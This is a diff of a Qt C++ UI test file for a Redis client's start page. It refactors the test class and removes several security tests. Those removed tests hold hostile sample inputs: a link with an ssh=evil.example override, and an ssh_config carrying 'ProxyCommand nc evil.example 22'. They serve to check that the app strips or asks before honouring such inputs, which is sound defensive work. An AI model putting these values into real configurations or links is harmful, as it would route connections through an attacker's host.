@@ -1,30 +1,19 @@
 // SPDX-License-Identifier: GPL-3.0-or-later
 // The window without a connection: start page, sandbox, recent connections, links.
-#include "core/config/profilestore.h"
 #include "tests/support/environmentvalue.h"
 #include "tests/support/uirunner.h"
+#include "tests/ui/connections/startpagetest.h"
 #include "tests/ui/pictures.h"
-#include "ui/bridges/enginebridge.h"
 #include "ui/connections/connectiondialog.h"
-#include "ui/connections/linkedconnection.h"
-#include "ui/connections/startpage.h"
 #include "ui/help/commandpalette.h"
-#include "ui/locks/lockpane.h"
 #include "ui/status/statusline.h"
 #include "ui/text/mnemonic.h"
-#include "ui/window/mainwindow.h"
 
 #include <QAction>
-#include <QDockWidget>
-#include <QFile>
 #include <QLineEdit>
 #include <QMenu>
-#include <QMessageBox>
-#include <QPointer>
 #include <QPushButton>
 #include <QSignalSpy>
-#include <QTemporaryDir>
-#include <QTest>
 #include <QToolButton>
 #include <QTreeWidget>
 
@@ -32,24 +21,11 @@ namespace tst_startpage
 {
 
 using namespace lockscope;
+using namespace lockscope::test;
+using namespace lockscope::test::startpage;
 
 namespace
 {
-
-ConnectionSpec profile(const char *name, Environment environment = Environment::Development)
-{
-    ConnectionSpec spec;
-    spec.name = QString::fromLatin1(name);
-    spec.host = QStringLiteral("%1.example").arg(QLatin1String(name));
-    spec.environment = environment;
-    return spec;
-}
-
-ConnectionSpec fromUrl(const char *url)
-{
-    const auto spec = parseConnectionUrl(QString::fromLatin1(url));
-    return spec ? *spec : ConnectionSpec{};
-}
 
 QStringList rows(const StartPage &page)
 {
@@ -63,26 +39,13 @@ QStringList rows(const StartPage &page)
 
 } // namespace
 
-class tst_StartPage : public QObject
+class tst_StartPage : public StartPageTest
 {
     Q_OBJECT
-
-    QTemporaryDir m_dir;
-    std::unique_ptr<EngineBridge> m_link;
-    HistoryBridge m_history;
-    std::unique_ptr<MainWindow> m_window;
     QAction m_connectTo{QStringLiteral("Connect…")};
     QAction m_sandbox{QStringLiteral("Sandbox: one server")};
 
     StartPage::Actions actions() { return {.connectTo = &m_connectTo, .sandboxes = {&m_sandbox}}; }
-    void open()
-    {
-        m_link = std::make_unique<EngineBridge>();
-        m_window = std::make_unique<MainWindow>(*m_link, m_history, m_dir.path());
-        m_window->show();
-        QVERIFY(QTest::qWaitForWindowActive(m_window.get()));
-    }
-    StartPage &start() { return m_window->start(); }
     static QStringList menuTexts(const QMenu *menu)
     {
         QStringList texts;
@@ -100,20 +63,9 @@ class tst_StartPage : public QObject
         }
         return nullptr;
     }
-    QString settings() const
-    {
-        QFile file(m_dir.filePath(QStringLiteral("window.ini")));
-        return file.open(QIODevice::ReadOnly) ? QString::fromUtf8(file.readAll()) : QString();
-    }
 
 private slots:
-    void cleanup()
-    {
-        m_window.reset();
-        m_link.reset();
-        for (const char *file : {"window.ini", "profiles.json"})
-            QFile::remove(m_dir.filePath(QLatin1String(file)));
-    }
+    void cleanup() { end(); }
 
     void theLastOneStandsFirst()
     {
@@ -336,159 +288,6 @@ private slots:
         QCOMPARE(unwanted.count(), 2);
         m_window->enterSandbox(sandbox);
         QVERIFY(m_window->deployment().spec != sandbox);
-    }
-
-    void aLinkIsLookedAtFirst()
-    {
-        open();
-        const QSignalSpy opened(m_link.get(), &EngineBridge::openWanted);
-        m_window->openLink(fromUrl(
-            "rediss://me:geheim@one:7000/3?insecure=1&ssh=evil.example&sshconfig=/tmp/x&cacert=/tmp/y"));
-        auto *dialog = m_window->findChild<ConnectionDialog *>();
-        QVERIFY(dialog);
-        QVERIFY2(dialog->notice().contains(QStringLiteral("came from a link or the command line")),
-                 qPrintable(dialog->notice()));
-        QVERIFY(dialog->notice().contains(QStringLiteral("removed")));
-        QVERIFY(!dialog->urlEdit()->text().contains(QStringLiteral("geheim")));
-        QVERIFY(!m_window->windowTitle().contains(QStringLiteral("geheim")));
-        const ConnectionSpec spec = dialog->spec();
-        QVERIFY(spec.readOnly && spec.tls.enabled && spec.tls.verifyPeer);
-        QVERIFY(!spec.ssh.enabled() && spec.ssh.configFile.isEmpty() && spec.tls.caFile.isEmpty());
-        QCOMPARE(spec.host, QStringLiteral("one"));
-        QCOMPARE(spec.db, 3);
-        QCOMPARE(opened.count(), 0);
-        QVERIFY(!m_window->deployment().spec);
-        dialog->connectButton()->click();
-        QCOMPARE(opened.count(), 1);
-        m_window.reset();
-        QVERIFY(settings().contains(QStringLiteral("one:7000")));
-        QVERIFY(!settings().contains(QStringLiteral("geheim")));
-    }
-
-    void aPlainLinkLosesNothing_data()
-    {
-        QTest::addColumn<QString>("url");
-        for (const char *url :
-             {"redis://one", "rediss://u:p@one:7000/2?sni=one", "unix:///run/redis.sock?db=1",
-              "sentinel://a:1,b:2/orders?sentineluser=u&sentinelpassword=p", "cluster://a:1,b:2",
-              "redis://a redis://b:2 redis://c"})
-            QTest::newRow(url) << QString::fromLatin1(url);
-    }
-    void aPlainLinkLosesNothing()
-    {
-        QFETCH(QString, url);
-        const auto spec = parseConnectionUrl(url);
-        QVERIFY(spec);
-        const LinkedConnection linked = linkedConnection(*spec);
-        QVERIFY(linked.spec == *spec);
-        QVERIFY(!linked.leftOut);
-    }
-
-    void anImportedSshConfigurationIsShownFirst()
-    {
-        QFile config(m_dir.filePath(QStringLiteral("ssh_config")));
-        QVERIFY(config.open(QIODevice::WriteOnly));
-        config.write("Host *\n  ProxyCommand nc evil.example 22\n");
-        config.close();
-        ConnectionSpec gift = profile("gift");
-        gift.ssh = {
-            .destination = QStringLiteral("jump"), .configFile = config.fileName(), .unconfirmed = true};
-        QVERIFY(ProfileStore(m_dir.path()).save({gift}).ok());
-        open();
-        const QSignalSpy opened(m_link.get(), &EngineBridge::openWanted);
-        const auto asked = [this] {
-            m_window->openProfile(QStringLiteral("gift"),
-                                  [](ConnectionSpec &spec) { spec.patterns = {"a*"}; });
-            return m_window->findChild<QMessageBox *>(QStringLiteral("sshConsent"));
-        };
-        QPointer<QMessageBox> box = asked();
-        QVERIFY(box);
-        QVERIFY2(box->informativeText().contains(QStringLiteral("ProxyCommand nc evil.example 22")),
-                 qPrintable(box->informativeText()));
-        box->button(QMessageBox::Cancel)->click();
-        QTRY_VERIFY(!box);
-        QCOMPARE(opened.count(), 0);
-        box = asked();
-        QVERIFY(box);
-        for (QAbstractButton *button : box->buttons()) {
-            if (box->buttonRole(button) == QMessageBox::AcceptRole)
-                button->click();
-        }
-        QTRY_COMPARE(opened.count(), 1);
-        QTRY_VERIFY(!box);
-        const auto saved = ProfileStore(m_dir.path()).find(QStringLiteral("gift"));
-        QVERIFY(saved && !saved->ssh.unconfirmed && saved->patterns.isEmpty());
-        QVERIFY(!asked());
-        QCOMPARE(opened.count(), 2);
-    }
-
-    void aStartMaySayHowItIsOpened()
-    {
-        ConnectionSpec orders = profile("orders");
-        orders.readOnly = false;
-        QVERIFY(ProfileStore(m_dir.path()).save({orders}).ok());
-        open();
-        const auto how = [](ConnectionSpec &spec) {
-            spec.readOnly = true;
-            spec.patterns = {QByteArray("a*")};
-        };
-        m_window->openProfile(QStringLiteral("orders"), how);
-        QVERIFY(m_window->deployment().spec && m_window->deployment().spec->readOnly);
-        QCOMPARE(m_window->deployment().spec->patterns, QList<QByteArray>{"a*"});
-        QVERIFY(m_window->isShowing(
-            {.connection = QStringLiteral("orders"), .readOnly = true, .patterns = {QByteArray("a*")}}));
-        m_window->openLink(fromUrl("redis://one"), how);
-        const auto *dialog = m_window->findChild<ConnectionDialog *>();
-        QVERIFY(dialog);
-        QCOMPARE(dialog->spec().patterns, QList<QByteArray>{"a*"});
-        m_window->openProfile(QStringLiteral("orders"));
-        QVERIFY(!m_window->deployment().spec->readOnly);
-    }
-
-    void tellsWhereItComesFrom()
-    {
-        using Origin = MainWindow::Origin;
-        QVERIFY(ProfileStore(m_dir.path()).save({profile("orders")}).ok());
-        open();
-        QVERIFY(m_window->origin() == Origin::Nowhere);
-        m_window->openProfile(QStringLiteral("orders"));
-        QVERIFY(m_window->origin() == Origin::Profile);
-        m_window->connectTo(fromUrl("redis://one"));
-        QVERIFY(m_window->origin() == Origin::Address);
-        m_window->connectTo(profile("unsaved"));
-        QVERIFY(m_window->origin() == Origin::Nowhere);
-        m_window->actions().sandboxes.at(0)->trigger();
-        m_window->enterSandbox(profile("sandbox"));
-        QVERIFY(m_window->origin() == Origin::Sandbox);
-    }
-
-    void aRunForAPictureLeavesNoTraces()
-    {
-        open();
-        m_window->leaveNoTraces();
-        m_window->connectTo(fromUrl("redis://two:7000"));
-        m_window->disconnectFromServer();
-        QVERIFY(start().list()->isHidden());
-        m_window.reset();
-        QVERIFY(!settings().contains(QStringLiteral("two:7000")));
-    }
-
-    void aLinkDoesNotSayWhoseNameCounts_data()
-    {
-        QTest::addColumn<QString>("url");
-        for (const char *url : {"rediss://bank.example?sni=evil.example", "rediss://a rediss://b?sni=c"})
-            QTest::newRow(url) << QString::fromLatin1(url);
-    }
-    void aLinkDoesNotSayWhoseNameCounts()
-    {
-        QFETCH(QString, url);
-        const auto spec = parseConnectionUrl(url);
-        QVERIFY(spec);
-        const LinkedConnection linked = linkedConnection(*spec);
-        QVERIFY(linked.leftOut);
-        QVERIFY(linked.spec.tls.serverName.isEmpty());
-        for (const ConnectionSpec &member : linked.spec.members)
-            QVERIFY(member.tls.enabled && member.tls.serverName.isEmpty());
     }
 
     void tellsWhatItShows()
